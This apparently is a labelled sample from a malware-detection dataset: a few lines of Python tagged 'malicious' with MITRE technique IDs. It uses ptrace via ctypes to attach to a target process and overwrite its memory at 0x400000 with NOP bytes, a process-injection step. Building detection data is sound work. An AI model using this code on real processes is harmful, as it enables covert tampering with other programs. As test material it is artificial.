# label: malicious family=fileless techniques=T1055.008,T1106 lines=4,6-7
import ctypes, sys
PTRACE_ATTACH, PTRACE_POKETEXT = 16, 4
libc = ctypes.CDLL("libc.so.6", use_errno=True)
pid = int(sys.argv[1])
libc.ptrace(PTRACE_ATTACH, pid, None, None)
libc.ptrace(PTRACE_POKETEXT, pid, ctypes.c_void_p(0x400000), ctypes.c_void_p(0x90909090))
